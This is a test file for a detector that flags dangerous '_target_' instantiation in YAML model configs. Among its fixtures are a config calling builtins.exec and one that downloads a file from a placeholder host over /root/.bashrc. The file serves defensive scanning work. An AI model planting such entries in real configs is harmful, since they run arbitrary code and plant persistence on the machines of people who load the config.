import { instantiateTarget } from '../../../src/detectors/yaml/instantiate-target.js';
import { ruleTester } from '../../helpers/rule-tester.js';
import { buildYaml, type YamlInput } from './build.js';

ruleTester<YamlInput, ReturnType<typeof buildYaml>>(instantiateTarget, buildYaml, {
  valid: [
    { name: 'a target that is a number', input: { text: 'target: 0.5\n' } },
    { name: 'a nested target without params is plain data', input: { text: 'loss:\n  target: labels.weights\n' } },
  ],
  invalid: [
    {
      name: 'NeMo classes are info',
      input: { text: 'target: nemo.collections.asr.models.EncDecCTCModel\nencoder:\n  _target_: nemo.collections.asr.modules.ConvASREncoder\n' },
      errors: [{ severity: 'info', message: '2 references' }],
    },
    {
      name: 'latent-diffusion target beside params',
      input: { text: 'model:\n  target: ldm.models.diffusion.ddpm.LatentDiffusion\n  params:\n    lr: 1\n' },
      errors: [{ severity: 'info' }],
    },
    {
      name: '_target_ builtins.exec is critical',
      input: { text: 'x:\n  _target_: builtins.exec\n  _args_: ["import os"]\n' },
      errors: [{ severity: 'critical', message: '_target_:builtins.exec at $.x._target_', evidence: 'builtins.exec' }],
    },
    {
      name: 'a Lightning trainer and an optimiser class are info',
      input: { text: 'trainer:\n  _target_: pytorch_lightning.Trainer\noptimizer:\n  _target_: torch.optim.AdamW\n' },
      errors: [{ severity: 'info', message: '2 references' }],
    },
    {
      name: 'a function inside a trusted package is not trusted for its prefix',
      input: { text: 'fetch:\n  _target_: speechbrain.utils.data_utils.download_file\n  source: https://example.invalid/x\n  dest: /root/.bashrc\n' },
      errors: [{ severity: 'medium', evidence: 'speechbrain.utils.data_utils.download_file' }],
    },
    {
      name: 'a loss function from torch.nn.functional is info',
      input: { text: 'loss:\n  _target_: torch.nn.functional.cross_entropy\n  _partial_: true\n' },
      errors: [{ severity: 'info' }],
    },
    {
      name: '_target_ outside the allow-list is medium',
      input: { text: 'x:\n  _target_: mypkg.Model\n' },
      errors: [{ severity: 'medium' }],
    },
    {
      name: 'a module beside the config that could not be read is medium',
      input: { text: '_target_: mymodel.Net\n', code: { 'mymodel.py': { status: 'unreadable', reason: 'mymodel.py is too big' } } },
      errors: [{ severity: 'medium', message: 'cannot be read' }],
    },
  ],
});
